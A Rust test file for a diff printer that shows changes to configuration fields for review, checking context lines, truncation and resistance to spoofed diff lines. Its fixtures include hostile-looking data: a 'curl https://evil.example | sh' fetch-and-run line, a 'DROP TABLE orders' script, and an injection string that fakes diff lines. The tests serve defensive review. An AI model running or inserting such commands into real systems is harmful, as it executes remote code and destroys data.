use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::command::review::diff::Concern;

fn change(old: Option<Value>, new: Option<Value>) -> FieldChange {
    FieldChange { path: "spec.x".to_owned(), concern: Concern::Rest, bound: true, is_default: false, old, new }
}

fn printed(old: Option<Value>, new: Option<Value>) -> Vec<String> {
    let (lines, is_whole) = of(&change(old, new), "x", "", &mut Room::bounded());
    assert!(is_whole);
    lines.into_iter().map(|line| format!("{} {}", line.marker.sign(), line.text)).collect()
}

#[test]
fn prints_each_differing_line_with_its_context() {
    let old: Vec<String> = (1..=30).map(|line| format!("step {line}\n")).collect();
    let mut new = old.clone();
    new[1] = "# version 2\n".to_owned();
    new[19] = "curl https://evil.example | sh\n".to_owned();
    let expected = [
        "~ x: 30 lines -> 30 lines",
        r#"=   "step 1\n""#,
        r#"-   "step 2\n""#,
        r##"+   "# version 2\n""##,
        r#"=   "step 3\n""#,
        r#"=   "step 4\n""#,
        r#"=   "step 5\n""#,
        "=   11 equal lines",
        r#"=   "step 17\n""#,
        r#"=   "step 18\n""#,
        r#"=   "step 19\n""#,
        r#"-   "step 20\n""#,
        r#"+   "curl https://evil.example | sh\n""#,
        r#"=   "step 21\n""#,
        r#"=   "step 22\n""#,
        r#"=   "step 23\n""#,
        "=   7 equal lines",
    ];
    assert_eq!(printed(Some(old.concat().into()), Some(new.concat().into())), expected);
}

#[test]
fn prints_each_differing_part_of_a_long_line() {
    let line = |first: &str, second: &str| json!(format!("--log={first} {}--then={second}", "--same ".repeat(40)));
    let printed = printed(Some(line("info", "true")), Some(line("debug", "rm")));
    assert_eq!(printed.len(), 5, "{printed:?}");
    assert!(printed[1].starts_with("-   from character 1: \"--log=info "), "{printed:?}");
    assert!(printed[2].starts_with("+   from character 1: \"--log=debug "), "{printed:?}");
    assert!(printed[3].starts_with("-   from character 275: ") && printed[3].ends_with("--then=true\""), "{printed:?}");
    assert!(printed[4].starts_with("+   from character 276: ") && printed[4].ends_with("--then=rm\""), "{printed:?}");
}

#[test]
fn prints_the_items_of_a_command_with_a_script_line_by_line() {
    let command = json!(["sh", "-c", "set -e\npsql -c 'DROP TABLE orders'\n"]);
    let expected = [
        "+ x: 3 items",
        r#"+   [0] "sh""#,
        r#"+   [1] "-c""#,
        r#"+   [2] "set -e\n""#,
        r#"+       "psql -c 'DROP TABLE orders'\n""#,
    ];
    assert_eq!(printed(None, Some(command)), expected);
}

#[test]
fn says_how_much_of_a_value_is_left_out() {
    let value = json!("0123456789".repeat(10_000));
    let cut = |room: &mut Room| {
        let (lines, is_whole) = of(&change(None, Some(value.clone())), "x", "", room);
        (lines.last().map(|line| line.text.clone()).unwrap_or_default(), is_whole)
    };
    let (last, is_whole) = cut(&mut Room::bounded());
    assert!(!is_whole);
    // 1,000 pieces of 104 bytes, of which 629 fit behind the first line in 64 KiB.
    assert_eq!(last, "  371 more lines of this value (38584 bytes) are not shown");
    assert!(cut(&mut Room::full()).1);
}

#[test]
fn a_value_that_is_as_large_as_the_bound_is_shown_whole() {
    let fits = |characters: usize| {
        let value = json!("x".repeat(characters));
        of(&change(None, Some(value)), "x", "", &mut Room::bounded()).1
    };
    assert!(fits(62_900));
    assert!(!fits(63_000), "each piece has quotes and an indentation");
}

#[test]
fn no_value_looks_like_another_line() {
    let hostile = "a\"\n    ~ image: \"evil\" -> \"good\"\r\n\u{2028}+ hostPID: false";
    for value in [json!(hostile), json!([hostile, hostile]), json!({hostile: hostile}), json!(hostile.repeat(20))] {
        for (old, new) in [(None, Some(value.clone())), (Some(json!("b")), Some(value.clone())), (Some(value), None)] {
            for line in printed(old, new) {
                assert!(line.starts_with(['+', '-', '~', '=']), "{line}");
                assert!(line.chars().all(|char| !char.is_control() && char != '\u{2028}'), "{line}");
            }
        }
    }
}

proptest! {
    /// Words that are inserted anywhere into a value, long or of many lines, are printed.
    #[test]
    fn every_inserted_word_is_printed(
        words in prop::collection::vec("[a-d]{1,6}", 1..200),
        inserted in prop::collection::vec((any::<prop::sample::Index>(), "[A-Z]{8}"), 1..6),
        separator in prop::sample::select(vec![" ", "\n", " --", "\t"]),
        in_list in any::<bool>(),
    ) {
        let mut new = words.clone();
        for (at, word) in &inserted {
            new.insert(at.index(new.len() + 1), word.clone());
        }
        let value = |words: &[String]| {
            let text = words.join(separator);
            if in_list { json!(["sh", text, "end"]) } else { json!(text) }
        };
        // A piece may end within a word, so the pieces are joined again.
        let lines = printed(Some(value(&words)), Some(value(&new)));
        let new_lines = lines.iter().filter(|line| line.starts_with(['+', '~']));
        let quoted = |line: &String| Some(line.split_once('"')?.1.trim_end_matches('"').to_owned());
        let text: String = new_lines.filter_map(quoted).collect();
        for (_, word) in &inserted {
            prop_assert!(text.contains(word.as_str()), "{word}: {text}");
        }
    }
}
